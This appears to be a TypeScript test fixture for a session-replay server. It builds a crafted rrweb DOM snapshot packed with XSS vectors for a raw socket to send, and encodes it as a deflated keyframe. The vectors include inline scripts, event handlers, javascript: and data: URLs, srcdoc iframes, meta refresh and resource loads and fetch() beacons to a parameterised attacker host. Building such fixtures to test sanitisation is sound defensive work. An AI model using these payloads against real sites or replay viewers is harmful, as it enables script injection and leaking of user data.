/**
 * A DOM keyframe no SDK would send: an rrweb full snapshot with script nodes, event-handler
 * attributes, javascript: and data: URLs and beacons, for a raw socket to send straight to the
 * server (the "crafted frames" case of issue 4).
 */
import zlib from 'node:zlib';
import { encodeDomFrame, FLAG_DEFLATE, FLAG_KEYFRAME } from '@samepage/protocol';

type SnapshotNode = Record<string, unknown>;

export function buildHostileEvents(pageUrl: string, attacker: string): unknown[] {
  let nextId = 1;
  const el = (tagName: string, attributes: Record<string, string> = {}, childNodes: SnapshotNode[] = [], extra: Record<string, unknown> = {}): SnapshotNode => ({
    type: 2,
    tagName,
    attributes,
    childNodes,
    id: nextId++,
    ...extra,
  });
  const text = (textContent: string): SnapshotNode => ({ type: 3, textContent, id: nextId++ });
  const run = (tag: string) => `top.__pwned='${tag}'; parent.__pwned='${tag}'; alert('${tag}'); fetch('${attacker}/exec/${tag}')`;

  const head = el('head', {}, [
    el('meta', { 'http-equiv': 'refresh', content: `0;url=${attacker}/crafted-refresh` }),
    el('meta', { 'http-equiv': 'Content-Security-Policy', content: "script-src * 'unsafe-inline'" }),
    el('base', { href: `${attacker}/crafted-base/` }),
    el('script', {}, [text(run('crafted-head-script'))]),
    el('script', { src: `${attacker}/crafted-script.js` }),
    el('link', { rel: 'stylesheet', href: `${attacker}/crafted-stylesheet.css` }),
    el('link', { rel: 'prefetch', href: `${attacker}/crafted-prefetch` }),
    el('style', { _cssText: `@import url("${attacker}/crafted-import.css"); body { background: url("${attacker}/crafted-css-bg"); } @font-face { font-family: X; src: url("${attacker}/crafted-font.woff2"); } h1 { font-family: X; }` }),
  ]);
  const body = el('body', { onload: run('crafted-body-onload'), onpageshow: run('crafted-body-onpageshow') }, [
    el('h1', { onmouseover: run('crafted-h1-onmouseover') }, [text('Crafted frame ready')]),
    el('script', {}, [text(run('crafted-body-script'))]),
    el('img', { src: 'x:broken', onerror: run('crafted-img-onerror') }),
    el('img', { src: `${attacker}/crafted-img`, srcset: `${attacker}/crafted-srcset 2x` }),
    el('a', { id: 'crafted-js-link', href: `javascript:${run('crafted-a-href')}` }, [text('link')]),
    el('iframe', { srcdoc: `<script>${run('crafted-srcdoc')}</script><img src="${attacker}/crafted-srcdoc-img">`, sandbox: 'allow-scripts allow-same-origin allow-top-navigation' }),
    el('iframe', { src: `javascript:${run('crafted-iframe-src')}` }),
    el('object', { data: `${attacker}/crafted-object` }),
    el('embed', { src: `${attacker}/crafted-embed` }),
    el('form', { id: 'crafted-form', action: `javascript:${run('crafted-form-action')}` }, [el('button', { formaction: `data:text/html,<script>${run('crafted-formaction')}</script>` }, [text('go')])]),
    el('svg', { onload: run('crafted-svg-onload') }, [el('script', {}, [text(run('crafted-svg-script'))], { isSVG: true }), el('a', { 'xlink:href': `javascript:${run('crafted-svg-a')}` }, [], { isSVG: true })], { isSVG: true }),
    el('div', { style: `background-image: url("${attacker}/crafted-inline-style")` }, [text('styled')]),
  ]);
  const html = el('html', {}, [head, body]);
  const doc = { type: 0, childNodes: [{ type: 1, name: 'html', publicId: '', systemId: '', id: nextId++ }, html], id: nextId++ };
  const now = Date.now();
  return [
    { type: 4, data: { href: pageUrl, width: 1024, height: 768 }, timestamp: now },
    { type: 2, data: { node: doc, initialOffset: { top: 0, left: 0 } }, timestamp: now },
  ];
}

/** The events as a keyframe on the wire: deflate-raw JSON behind the 12-byte header. */
export function encodeKeyframe(events: unknown[], epoch = 1, seq = 0): Buffer {
  const payload = zlib.deflateRawSync(Buffer.from(JSON.stringify(events)));
  return Buffer.from(encodeDomFrame({ flags: FLAG_KEYFRAME | FLAG_DEFLATE, epoch, seq }, payload));
}
